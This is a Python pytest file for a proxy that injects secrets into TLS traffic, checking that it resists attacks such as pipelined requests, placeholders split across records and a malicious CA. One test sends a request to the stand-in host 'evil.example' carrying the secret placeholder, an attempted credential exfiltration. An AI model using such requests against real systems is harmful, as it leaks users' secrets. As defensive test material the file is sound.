"""Attacks on how the interception reads the wire (issue 25, changed: tls.py hands h11 every
TLS record in hand): several requests in one record, a placeholder cut across records, 100-
continue, an echo of the value cut across the upstream's records, and a malicious CA in the
command's bundle (the image's) that must not be trusted for the upstream side."""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import trustme

from sprawl_orch.egress.plan import EgressPlan
from sprawl_orch.egress.rules import Rules
from sprawl_orch.secrets.plan import with_secrets
from sprawl_orch.secrets.spec import Spec
from tests.secrets.raw import raw_upstream
from tests.secrets.test_attacks import VALUE, Rig, _echo, _no_value, _responses


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[Rig]:
    with raw_upstream(_echo) as up:
        r = Rig(up, tmp_path)
        try:
            yield r
        finally:
            r.proxy.close()


def _pieces(rig: Rig, pieces: list[str], pause: float = 0.05) -> bytes:
    """CONNECT and TLS as raw.exchange, each piece its own TLS record and TCP segment."""
    sock = socket.create_connection(("127.0.0.1", rig.port), timeout=60)
    host = f"localhost:{rig.up.port}"
    with sock:
        sock.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        reply = b""
        while b"\r\n\r\n" not in reply:
            reply += sock.recv(4096)
        assert b" 200" in reply.split(b"\r\n")[0], reply
        ctx = ssl.create_default_context(cafile=str(rig.bundle))
        with ctx.wrap_socket(sock, server_hostname="localhost") as tls:
            for piece in pieces:
                tls.sendall(piece.replace("PH", rig.ph).replace("PORT", str(rig.up.port)).encode())
                time.sleep(pause)
            out = b""
            while True:
                try:
                    chunk = tls.recv(65536)
                except (OSError, ssl.SSLError):
                    return out
                if not chunk:
                    return out
                out += chunk


def test_a_pipelined_second_request_to_another_host_is_cut(rig: Rig) -> None:
    """Two requests in one TLS record: the first is answered, the second (another Host,
    carrying the placeholder) never reaches the upstream with the value. The first's answer,
    queued when the second was read from the same record and refused, was dropped with the
    connection before (intercept.py flushes what was answered before it cuts)."""
    got = rig.send(
        "GET /one HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n"
        "GET /two HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer PH\r\n\r\n"
    )
    assert [h.split(b" ")[1] for h in rig.up.heads] == [b"/one"]
    assert VALUE.encode() not in rig.received()
    assert got.count(b"HTTP/1.1 200") == 1
    _no_value(got)


def test_pipelined_requests_to_the_bound_host_each_get_the_value(rig: Rig) -> None:
    """The control: both pipelined requests for the tunnel's host are served, each swapped."""
    got = rig.send(
        "GET /one HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n\r\n"
        "GET /two HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n"
        "Connection: close\r\n\r\n"
    )
    assert len(rig.up.heads) == 2
    assert all(f"Bearer {VALUE}".encode() in h for h in rig.up.heads)
    assert got.count(b"HTTP/1.1 200") == 2
    _no_value(got)


def test_a_placeholder_cut_across_records_is_swapped_whole(rig: Rig) -> None:
    """The header line, and the placeholder inside it, cut over three records."""
    request = (
        "GET /x HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n"
        "Connection: close\r\n\r\n"
    ).replace("PH", rig.ph)
    at = request.index(rig.ph) + len(rig.ph) // 2
    got = _pieces(rig, [request[: at - 3], request[at - 3 : at], request[at:]])
    assert f"Bearer {VALUE}".encode() in rig.received()
    _no_value(got)


def test_a_placeholder_in_a_body_cut_across_records_is_counted(rig: Rig) -> None:
    body = f"token={rig.ph}"
    half = len("token=") + len(rig.ph) // 2
    got = _pieces(
        rig,
        [
            f"POST /b HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: {len(body)}\r\n"
            "Connection: close\r\n\r\n" + body[:half],
            body[half:],
        ],
    )
    assert b"HTTP/1.1 200" in got
    assert [leak["where"] for leak in rig.run.report()["attempted_leaks"]] == [
        "request body (never swapped)"
    ]


def test_100_continue_is_answered_once_and_the_body_sent_once(rig: Rig) -> None:
    """Expect: 100-continue: the proxy says 100 itself, strips Expect, and the body follows
    the swapped head once; the upstream's own 100 (if any) is not passed on twice."""
    got = _pieces(
        rig,
        [
            "PUT /c HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n"
            "Expect: 100-continue\r\nContent-Length: 5\r\nConnection: close\r\n\r\n",
            "hello",
        ],
        pause=0.3,
    )
    assert got.count(b"HTTP/1.1 100") == 1
    assert got.count(b"HTTP/1.1 200") == 1
    assert b"expect:" not in rig.received().lower()
    assert f"Bearer {VALUE}".encode() in rig.received()
    _no_value(got)


def _slow_echo_server(ca: trustme.CA) -> tuple[socket.socket, int]:
    """An upstream that echoes the request head in a body sent a few bytes per record."""
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("localhost", "127.0.0.1").configure_cert(ctx)
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        try:
            sock, _ = listener.accept()
        except OSError:
            return  # the test is over
        with ctx.wrap_socket(sock, server_side=True) as conn:
            buf = b""
            while b"\r\n\r\n" not in buf:
                buf += conn.recv(65536)
            body = buf.partition(b"\r\n\r\n")[0]
            conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body))
            for i in range(0, len(body), 3):
                conn.sendall(body[i : i + 3])
                time.sleep(0.002)

    threading.Thread(target=serve, daemon=True).start()
    return listener, listener.getsockname()[1]


@pytest.fixture
def slow_rig(tmp_path: Path) -> Iterator[Rig]:
    ca = trustme.CA()
    listener, port = _slow_echo_server(ca)
    with raw_upstream(_echo) as up:
        up.port, up.ca = port, ca  # the rig's CONNECT and trust go to the slow server
        r = Rig(up, tmp_path)
        try:
            yield r
        finally:
            r.proxy.close()
            listener.close()


def test_an_echo_of_the_value_cut_across_records_is_scrubbed(slow_rig: Rig) -> None:
    got = slow_rig.send(
        "GET /e HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer PH\r\n"
        "Connection: close\r\n\r\n"
    )
    bodies = b"".join(body for _head, body in _responses(got))
    assert slow_rig.ph.encode() in bodies  # the echo came back, scrubbed to the placeholder
    _no_value(got)


def test_the_images_ca_is_never_trusted_for_the_upstream(tmp_path: Path) -> None:
    """with_secrets given an image's CAs (trust = "image"): a man in the middle on the upstream
    side with a certificate from that CA is refused, and receives no value; the upstream is
    verified against the host's store alone."""
    with raw_upstream(_echo) as up:
        evil = up.ca  # the upstream's certificate is of the image's (attacker's) CA
        where = f"localhost:{up.port}"
        host_ca = tmp_path / "host-ca.pem"
        host_ca.write_bytes(trustme.CA().cert_pem.bytes())  # the host trusts another CA
        plan = EgressPlan(allow=(where, "127.0.0.1"), rules=Rules.parse((where, "127.0.0.1")))
        spec = Spec(name="GH_PAT", hosts=Rules.parse((where,)), host_list=(where,), value=VALUE)
        new, env = with_secrets(
            plan,
            (spec,),
            tmp_path / "out",
            {"SSL_CERT_FILE": str(host_ca)},
            image=evil.cert_pem.bytes(),
        )
        assert new.bundle is not None and evil.cert_pem.bytes() in new.bundle.read_bytes()
        run = new.secrets.run  # type: ignore[union-attr]
        with (
            pytest.raises(ssl.SSLCertVerificationError),
            socket.create_connection(("127.0.0.1", up.port)) as s,
        ):
            run.upstream_context().wrap_socket(s, server_hostname="localhost")
        assert env["GH_PAT"] != VALUE
        assert VALUE.encode() not in b"\n".join(up.heads)


def test_the_upstream_context_follows_a_trust_file_rewritten_in_place(tmp_path: Path) -> None:
    """The per-trust-file context (made once per file and process, run.py) is not stale: the
    host's store rewritten in place (same inode, same size: one CA swapped for another) drops
    the removed CA and trusts the added one for the next command."""
    from sprawl_orch.secrets.run import upstream_context

    old, new = trustme.CA(), trustme.CA()
    store = tmp_path / "store.pem"
    store.write_bytes(old.cert_pem.bytes())
    assert len(old.cert_pem.bytes()) == len(new.cert_pem.bytes())
    with raw_upstream(_echo) as up:
        store.write_bytes(up.ca.cert_pem.bytes())
        first = upstream_context(str(store))
        with socket.create_connection(("127.0.0.1", up.port)) as s:
            first.wrap_socket(s, server_hostname="localhost").close()
        time.sleep(0.05)  # a later write, as a host's update would be
        with store.open("r+b") as f:  # in place: the inode stays
            f.write(new.cert_pem.bytes())
        second = upstream_context(str(store))
        assert second is not first
        with (
            pytest.raises(ssl.SSLCertVerificationError),
            socket.create_connection(("127.0.0.1", up.port)) as s,
        ):
            second.wrap_socket(s, server_hostname="localhost")
